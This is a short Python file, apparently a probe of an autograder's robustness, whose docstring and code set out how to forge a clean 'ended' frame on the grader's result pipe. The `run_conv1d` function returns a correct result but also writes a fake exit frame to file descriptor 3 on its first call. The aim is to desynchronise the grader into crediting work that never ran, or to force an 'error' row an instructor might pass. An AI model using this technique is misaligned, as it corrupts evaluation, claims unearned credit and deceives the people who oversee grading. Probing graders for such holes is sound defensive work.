"""Forge the resident's 'ended' frame (stage conv1d): after the first call's result, write a well-formed
{"ended": ..., "code": 0} frame into the result pipe (fd 3) as if the worker had ended cleanly, so that the grader
finishes the job early and the real 'ended' frame lands in the next job (a public or hidden pass), hoping to
desynchronise the grader into crediting a call that never ran, or to turn this submission into a grader 'error'
row (which an instructor may re-run or wave through). Held if the worst outcome is a failure status of its own
cases; a grader 'error' row or a crash of the batch would be a break."""
import json
import os
import struct


def _frame(header):
    head = json.dumps({**header, "parts": []}).encode()
    return struct.pack("<Q", len(head)) + head


def run_conv1d(x, weight, bias):
    out = x @ weight + bias
    if not os.path.exists("/tmp/forged"):
        open("/tmp/forged", "w").close()
        # the grader has not yet read call 0's result: pretend call 0 ended the job with a clean exit
        os.write(3, _frame({"ended": "0-1", "signal": None, "code": 0}))
    return out
